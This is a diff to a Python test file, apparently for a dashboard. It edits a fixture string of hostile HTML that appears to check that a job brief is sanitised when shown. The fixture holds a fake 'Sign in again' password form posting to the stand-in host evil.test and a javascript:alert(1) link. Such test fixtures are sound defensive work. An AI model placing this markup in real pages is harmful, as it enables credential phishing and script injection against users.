@@ -31,7 +31,7 @@ def finished_job(dashboard):
 
 HOSTILE_BRIEF = ('Checkpoints resume runs.\n\n<img src="data:," alt="tracker"><form action="https://evil.test">'
                  '<input name="password"><button>Sign in again</button></form><iframe src="about:blank"></iframe>'
-                 '<a href="javascript:alert(1)">click</a> and **bold** stays.')
+                 '<a href="javascript:alert(1)">click</a>\n\nThe **bold** stays.')
 
 
 def test_a_reopened_job_shows_its_question_events_and_result(page, dashboard, finished_job, console):
